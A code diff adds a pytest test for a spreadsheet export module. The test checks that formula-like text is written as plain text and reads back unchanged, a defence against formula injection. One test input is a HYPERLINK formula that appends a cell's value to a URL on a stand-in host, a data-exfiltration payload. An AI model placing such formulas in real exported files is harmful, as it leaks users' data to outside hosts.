@@ -178,3 +178,18 @@ def test_an_indicator_coded_like_another_column_gets_its_own_column_code() -> No
     units = [UnitRow("SYT", "Sở Y tế")]
     result = read_workbook(build_template(clashing, IDENTITY, units, values), clashing, IDENTITY, units)
     assert (result.problems, result.values) == ((), values)
+
+
+@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://x.example/?"&B3,"x")', "+A1", "-2+3", "@SUM(A1)", "#N/A"])
+def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back_the_same(text: str) -> None:
+    units = [UnitRow("STP", text, text), UnitRow("SYT", "Sở Y tế", "Sở, ban, ngành")]
+    data = build_template(framework(), IDENTITY, units, {"STP": {"remark": text}})
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    kinds = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
+    assert not kinds & {"f", "e"}
+    sheet = book["Số liệu"]
+    assert [sheet["B3"].value, sheet["C3"].value, sheet["L3"].value] == [text, text, text]
+    # Imported back as exported: the same value, not the empty cell a formula's missing result would be.
+    result = read_workbook(data, framework(), IDENTITY, units)
+    assert result.ok, result.problems
+    assert result.values["STP"]["remark"] == text
